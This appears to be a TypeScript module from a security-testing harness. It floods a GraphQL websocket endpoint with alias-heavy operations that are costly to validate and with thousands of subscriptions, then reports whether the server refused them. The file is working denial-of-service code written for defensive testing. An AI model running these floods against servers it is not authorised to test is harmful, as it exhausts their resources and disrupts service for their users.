import { once } from 'node:events';
import { setTimeout as sleep } from 'node:timers/promises';
import { WebSocket } from 'ws';
import { z } from 'zod';
import { addresses, AnswerCount, type Attack } from '../attack.types.ts';

const messageSchema = z.object({
  type: z.string(),
  payload: z
    .array(z.object({ extensions: z.object({ code: z.string() }).optional() }))
    .optional()
    .catch(undefined),
});
/** How long the sockets stay open after the last operation, in milliseconds. */
const holdMs = { small: 3_000, full: 30_000 } as const;
/** An operation of 14 kB; its name makes each one another text. */
const manyAliases = (index: number): string =>
  `query Q${index} { ${Array.from({ length: 383 }, (_, alias) => `alias${alias}: problem(id: 1) { id }`).join(' ')} }`;

/** Operations that are dear to validate, one after the other without waiting. */
export const socketOperations: Attack = {
  name: 'socket-operations',
  async run({ site, size }) {
    const count = size === 'full' ? 300 : 40;
    const answers = await flood(site.url, { sockets: 1, count, holdMs: holdMs[size], query: manyAliases });
    const validated = answers.of(/SUBSCRIPTIONS_ONLY|next/);
    return { answers: answers.all(), weakness: validated > 0 ? `${validated} operations were validated` : null };
  },
};

/** More subscriptions than anybody needs. */
export const socketSubscriptions: Attack = {
  name: 'socket-subscriptions',
  async run({ site, size }) {
    const count = size === 'full' ? 5_000 : 500;
    const query = (): string => 'subscription { newSubmissionCount(afterId: 0) }';
    const answers = await flood(site.url, { sockets: 4, count, holdMs: holdMs[size], query });
    const refused = answers.of(/^(error|closed|refused)/);
    const weakness = refused > 0 ? null : `${4 * count} subscriptions of one address were taken`;
    return { answers: answers.all(), weakness };
  },
};

interface Flood {
  readonly sockets: number;
  /** Operations of each socket. */
  readonly count: number;
  readonly holdMs: number;
  readonly query: (index: number) => string;
}

async function flood(url: string, { sockets, count, holdMs, query }: Flood): Promise<AnswerCount> {
  const answers = new AnswerCount();
  const open = await Promise.all(Array.from({ length: sockets }, () => openSocket(url, answers)));
  for (const socket of open) {
    for (let index = 0; index < count && socket?.readyState === WebSocket.OPEN; index += 1) {
      socket.send(JSON.stringify({ id: `o${index}`, type: 'subscribe', payload: { query: query(index) } }));
    }
  }
  await sleep(holdMs);
  for (const socket of open) socket?.terminate();
  return answers;
}

/** A socket after its greeting; null when it was refused. */
async function openSocket(url: string, answers: AnswerCount): Promise<WebSocket | null> {
  const address = `${url.replace('http', 'ws')}/graphql`;
  const socket = new WebSocket(address, 'graphql-transport-ws', { localAddress: addresses.attacker });
  socket.on('error', () => {});
  socket.once('close', (code) => answers.add(`closed ${code}`));
  try {
    await once(socket, 'open', { signal: AbortSignal.timeout(10_000) });
    socket.send(JSON.stringify({ type: 'connection_init' }));
    await once(socket, 'message', { signal: AbortSignal.timeout(10_000) });
  } catch {
    answers.add('refused');
    return null;
  }
  socket.on('message', (data) => {
    const { type, payload } = messageSchema.parse(JSON.parse(String(data)));
    answers.add(type === 'error' ? `error ${payload?.[0]?.extensions?.code ?? 'of validation'}` : type);
  });
  return socket;
}
